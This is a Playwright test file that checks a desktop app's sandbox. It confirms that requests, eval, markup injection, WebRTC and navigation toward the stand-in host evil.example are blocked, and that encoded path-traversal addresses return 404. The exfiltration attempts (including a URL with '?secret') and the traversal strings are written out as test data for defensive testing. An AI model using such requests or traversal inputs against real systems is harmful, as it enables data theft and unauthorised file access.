import dgram from "node:dgram";
import { expect, type Page } from "@playwright/test";
import { tryToReach, tryWebRtc } from "./escapes.ts";
import { needsStandin, test } from "./fixture.ts";
import { launchStandin, type StandinApp } from "./standinApp.ts";

test("[S1] the policy stops every request, every string turned into code, and every frame", async ({ standin }) => {
  needsStandin();
  const outcome = await tryToReach(standin.page, "evil.example");
  expect(outcome).toMatchObject({
    fetch: "TypeError",
    "local file": "TypeError",
    image: "refused",
    "style sheet": "refused",
    socket: expect.stringMatching(/refused|SecurityError/),
  });
  const code = await standin.page.evaluate(async () => {
    // The debugger that evaluates this may use eval; the page's own tasks may not.
    await new Promise((resolve) => setTimeout(resolve));
    const attempt = (run: () => unknown) => {
      try {
        return String(run());
      } catch (problem) {
        return problem instanceof Error ? problem.name : "refused";
      }
    };
    return {
      // Indirect, as an attacker would call it.
      eval: attempt(() => Reflect.apply(Reflect.get(window, "eval") as () => unknown, undefined, ["1 + 1"])),
      markup: attempt(() => (document.createElement("div").innerHTML = "<b>x</b>")),
      script: attempt(() => (document.createElement("script").text = "1")),
    };
  });
  expect(code).toEqual({ eval: "EvalError", markup: "TypeError", script: "TypeError" });
  const { log, url } = await standin.report();
  expect(log.network).toEqual([]);
  expect(url).toBe("app://obelus/index.html");
});

test("[S1] with the policy taken away, the session still lets nothing out", async () => {
  needsStandin();
  await withApp({ STANDIN_WITHOUT_CSP: "1" }, async (app) => {
    const outcome = await tryToReach(app.page, "evil.example");
    expect(outcome).toMatchObject({ fetch: "TypeError", image: "refused", socket: "refused" });
    await expect.poll(async () => (await app.report()).log.navigations.length).toBeGreaterThan(0);
    const { log, url } = await app.report();
    expect(log.network).toEqual([]);
    for (const tried of ["fetch", "image.png", "style.css", "beacon"])
      expect(log.blocked).toContain(`https://evil.example/${tried}`);
    expect(log.blocked).toContain("wss://evil.example/socket");
    expect(log.windowOpen).toEqual([{ url: "https://evil.example/window", action: "deny" }]);
    expect(log.navigations.every(({ prevented }) => prevented)).toBe(true);
    expect(log.navigations.map((navigation) => navigation.url)).toContain("https://evil.example/frame");
    expect(url).toBe("app://obelus/index.html");
  });
});

test("the page cannot be led away", async ({ standin }) => {
  needsStandin();
  const before = (await standin.report()).log.navigations.length;
  await standin.page.evaluate(() => {
    location.href = "https://evil.example/leave?secret";
  });
  await expect
    .poll(async () => (await standin.report()).log.navigations.slice(before))
    .toEqual([{ url: "https://evil.example/leave?secret", prevented: true }]);
  expect((await standin.report()).url).toBe("app://obelus/index.html");
});

test("[S1] WebRTC sends no packet, and would without the seals", async () => {
  needsStandin();
  const packets = { sealed: 0, open: 0 };
  await withStunServer(async (port, count) => {
    await withApp({}, (app) => tryWebRtc(app.page, port));
    packets.sealed = count();
    await withApp({ STANDIN_WITHOUT_SEALS: "1" }, (app) => tryWebRtc(app.page, port));
    packets.open = count() - packets.sealed;
  });
  expect(packets.sealed).toBe(0);
  expect(packets.open, "the test can see packets").toBeGreaterThan(0);
});

for (const address of [
  "/..%2fmain%2fmain.js",
  "/../main/main.js",
  "/%2e%2e/preload/preload.cjs",
  "/..%5cmain%5cmain.js",
  "/index.html%00",
  "/%",
]) {
  test(`serves nothing outside its folder: ${address}`, async ({ desktop }) => {
    expect(await status(desktop.page, address)).toBe(404);
  });
}

test("serves its own page and refuses to change it", async ({ desktop }) => {
  expect(await status(desktop.page, "/index.html")).toBe(200);
  expect(
    await desktop.page.evaluate(async () => (await fetch("/index.html", { method: "POST", body: "x" })).status),
  ).toBe(404);
});

function status(page: Page, address: string): Promise<number> {
  return page.evaluate(async (path) => (await fetch(path)).status, address);
}

async function withApp(env: Record<string, string>, use: (app: StandinApp) => Promise<void>): Promise<void> {
  const app = await launchStandin({ env });
  try {
    await use(app);
  } finally {
    await app.close();
  }
}

async function withStunServer(use: (port: number, count: () => number) => Promise<void>): Promise<void> {
  let packets = 0;
  const server = dgram.createSocket("udp4", () => (packets += 1));
  await new Promise<void>((resolve) => server.bind(0, "127.0.0.1", resolve));
  try {
    await use(server.address().port, () => packets);
  } finally {
    server.close();
  }
}
